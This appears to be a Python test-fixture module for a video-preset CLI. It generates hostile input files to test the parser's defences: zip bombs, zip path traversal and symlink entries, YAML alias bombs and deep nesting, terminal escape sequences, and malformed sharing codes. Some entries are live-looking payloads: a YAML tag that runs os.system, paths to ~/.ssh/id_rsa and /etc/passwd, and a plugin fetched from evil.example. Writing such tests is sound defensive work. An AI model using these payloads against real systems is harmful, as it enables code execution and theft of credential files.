"""Files that somebody might send who means no good; also measured in tests/benchmarks/bench_presets.py."""

from __future__ import annotations

import io
import stat
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from skyreels_cli.recipe.presets.preset import Preset
from skyreels_cli.recipe.sharing.code import _encode, to_code

GOOD = b"schema: 1\nprompt: a ball\n"


def archive(*entries: tuple[str, bytes], mode: int = stat.S_IFREG | 0o644) -> bytes:
    """A zip of these entries, whose mode is that of the last."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (mode if name == entries[-1][0] else stat.S_IFREG | 0o644) << 16
            made.writestr(info, content)
    return buffer.getvalue()


def code_of(packed: bytes, length: int | None = None) -> bytes:
    """A code around any bytes, with a checksum that is right."""
    size = len(packed) if length is None else length
    header = b"\1" + size.to_bytes(3, "big") + zlib.crc32(packed).to_bytes(4, "big")
    return ("sky1:" + "".join(_encode(header + packed))).encode()


def deflated(content: bytes) -> bytes:
    """Raw deflate, as codes hold it."""
    squeezer = zlib.compressobj(9, wbits=-15)
    return squeezer.compress(content) + squeezer.flush()


def liar() -> bytes:
    """A zip whose head says that an entry is small."""
    made = bytearray(archive(("preset.yaml", GOOD), ("a.png", bytes(10_000_000))))
    real, told = (10_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little")
    return bytes(made.replace(real, told))


def alias_bomb() -> bytes:
    """Nine lines that would be a billion values."""
    lines = ["a0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return "\n".join(lines).encode()


def nested_json(depth: int) -> bytes:
    """A film's record with options that are nested."""
    return b'{"recipe": {"prompt": "a", "options": {"a": {"b": ' + b"[" * depth + b"]" * depth + b"}}}}"


CODE = to_code(Preset.model_validate({"prompt": "a ball", "name": "ball"}))

HOSTILE: dict[str, Callable[[], bytes]] = {
    "zip-bomb.skypreset": lambda: archive(("preset.yaml", GOOD), ("a.png", bytes(40_000_000))),
    "zip-bomb-of-text.skypreset": lambda: archive(("preset.yaml", b"#" * 100_000_000)),
    "zip-of-many.skypreset": lambda: archive(("preset.yaml", GOOD), *((f"{n}.png", b"") for n in range(5000))),
    "zip-that-lies.skypreset": liar,
    "nested.skypreset": lambda: archive(("preset.yaml", GOOD), ("inner.skypreset", archive(("preset.yaml", GOOD)))),
    "traversal.skypreset": lambda: archive(("preset.yaml", GOOD), ("../../evil.png", b"x")),
    "traversal-deep.skypreset": lambda: archive(("preset.yaml", GOOD), ("a/../../evil.png", b"x")),
    "absolute.skypreset": lambda: archive(("preset.yaml", GOOD), ("/tmp/evil.png", b"x")),
    "backslash.skypreset": lambda: archive(("preset.yaml", GOOD), ("..\\evil.png", b"x")),
    "drive.skypreset": lambda: archive(("preset.yaml", GOOD), ("C:evil.png", b"x")),
    "symlink.skypreset": lambda: archive(
        ("preset.yaml", b"image: a.png\n"), ("a.png", b"/etc/passwd"), mode=stat.S_IFLNK | 0o777
    ),
    "device.skypreset": lambda: archive(("preset.yaml", GOOD), ("a.png", b""), mode=stat.S_IFCHR | 0o666),
    "fifo.skypreset": lambda: archive(("preset.yaml", GOOD), ("a.png", b""), mode=stat.S_IFIFO | 0o666),
    "two-of-one-name.skypreset": lambda: archive(("preset.yaml", GOOD), ("A.png", b"x"), ("a.png", b"y")),
    "program.skypreset": lambda: archive(("preset.yaml", GOOD), ("run.py", b"import os")),
    "no-preset.skypreset": lambda: archive(("other.yaml", GOOD)),
    "cut-off.skypreset": lambda: archive(("preset.yaml", GOOD * 50))[:200],
    "empty.skypreset": lambda: b"",
    "no-zip.skypreset": lambda: b"PK\3\4" + b"x" * 100,
    "parent.skypreset": lambda: archive(("preset.yaml", b"extends: draft\n")),
    "path-in-it.skypreset": lambda: archive(("preset.yaml", b"image: /etc/passwd\n"), ("a.png", b"x")),
    "alias-bomb.yaml": alias_bomb,
    "nesting.yaml": lambda: b"[" * 10_000_000,
    "nesting-short.yaml": lambda: b"a: " + b"[" * 900_000,
    "nesting-of-maps.yaml": lambda: b"{a: " * 200_000,
    "nul.yaml": lambda: b"prompt: a\0b\n",
    "no-utf-8.yaml": lambda: b"prompt: \xff\xfe\n",
    "utf-16.yaml": lambda: "prompt: a".encode("utf-16"),
    "escape.yaml": lambda: b"prompt: \x1b]0;owned\x07\n",
    "escaped-key.yaml": lambda: b'"\\e[31m\\u202ered": 1\n',
    "escaped-value.yaml": lambda: b'aspect: "\\e[2J\\e[31m"\n',
    "huge-list.yaml": lambda: b"tags:\n" + b"- x\n" * 240_000,
    "huge-map.yaml": lambda: b"".join(b"k%d: 1\n" % n for n in range(9_000)),
    "huge-number.yaml": lambda: b"seed: " + b"9" * 900_000,
    "huge-prompt.yaml": lambda: b"prompt: " + b"x" * 900_000,
    "huge-tag.yaml": lambda: b"prompt: !" + b"x" * 900_000,
    "python-tag.yaml": lambda: b"prompt: !!python/object/apply:os.system [touch /tmp/owned]\n",
    "python-name.yaml": lambda: b"prompt: !!python/name:os.system\n",
    "binary-tag.yaml": lambda: b"prompt: !!binary aGk=\n",
    "traversal.yaml": lambda: b"image: ../../etc/passwd\n",
    "absolute.yaml": lambda: b"end_image: /etc/passwd\n",
    "home.yaml": lambda: b"video: ~/.ssh/id_rsa\n",
    "windows.yaml": lambda: b"image: C:\\Windows\\win.ini\n",
    "parent-outside.yaml": lambda: b"extends: ../../other.yaml\n",
    "parent-absolute.yaml": lambda: b"extends: /etc/passwd\n",
    "path-as-name.yaml": lambda: b"name: ../evil\nprompt: a\n",
    "package-from-anywhere.yaml": lambda: b"requires: {plugins: {a: 'a @ https://evil.example/a.whl'}}\n",
    "scalar.yaml": lambda: b"just words\n",
    "empty.yaml": lambda: b"",
    "record-nested.json": lambda: nested_json(100_000),
    "record-nested-little.json": lambda: nested_json(60),
    "record-foreign.json": lambda: b'{"recipe": {"prompt": "a", "evil": 1}}',
    "record-typed-wrongly.json": lambda: b'{"recipe": {"prompt": ["a"], "shots": 5, "num_frames": {}}}',
    "record-shots.json": lambda: b'{"recipe": {"prompt": "a", "shots": [1, null, "x"]}}',
    "code-cut-off.txt": CODE[:-10].encode,
    "code-of-wrong-checksum.txt": (CODE[:20] + ("2" if CODE[20] != "2" else "3") + CODE[21:]).encode,
    "code-bomb.txt": lambda: code_of(deflated(b" " * 12_000_000)),
    "code-of-nesting.txt": lambda: code_of(deflated(b"[" * 900_000)),
    "code-of-rubbish.txt": lambda: code_of(b"\xff" * 100),
    "code-that-is-too-long.txt": lambda: code_of(b"x", length=2**24 - 1),
    "code-of-nothing.txt": lambda: code_of(b""),
    "code-of-nan.txt": lambda: code_of(deflated(b'{"seed": NaN}')),
    "code-of-two-keys.txt": lambda: code_of(deflated(b'{"seed": 1, "seed": 2}')),
    "code-of-half-a-character.txt": lambda: code_of(deflated(b'{"prompt": "\\ud800"}')),
    "code-of-a-list.txt": lambda: code_of(deflated(b"[1]")),
    "film.mp4": lambda: b"\0\0\0\x18ftypisom" + b"\0" * 5000,
    "film.mkv": lambda: b"\x1a\x45\xdf\xa3" + b"\xff" * 5000,
}


def write_hostile(name: str, folder: Path) -> Path:
    """One of the files."""
    path = folder / name
    path.write_bytes(HOSTILE[name]())
    return path
